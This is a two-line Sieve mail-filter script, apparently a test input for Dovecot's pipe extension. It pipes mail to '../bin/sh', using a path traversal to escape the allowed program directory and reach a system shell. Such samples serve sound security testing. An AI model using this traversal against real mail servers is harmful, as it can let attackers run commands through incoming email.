require ["vnd.dovecot.pipe", "variables"];
pipe "../bin/sh";
